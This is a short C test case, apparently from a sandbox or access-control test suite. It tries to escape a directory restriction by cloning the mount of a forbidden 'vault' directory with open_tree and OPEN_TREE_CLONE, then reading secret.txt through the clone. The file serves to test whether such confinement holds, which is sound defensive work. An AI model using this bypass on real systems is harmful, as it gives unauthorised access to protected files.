/* technique: clones the mount of the forbidden directory with the new mount API and reads beneath the clone
 * source: open_tree(2), OPEN_TREE_CLONE
 * success: the content of vault/secret.txt on the output
 * control: outside
 * needs: root
 * event: SystemCall
 */
#include "attack.h"

int main(void)
{
	int tree = (int)syscall(SYS_open_tree, AT_FDCWD, "vault", 1 /* OPEN_TREE_CLONE */);

	return tree < 0 ? failed("open_tree") : show(openat(tree, "secret.txt", O_RDONLY));
}
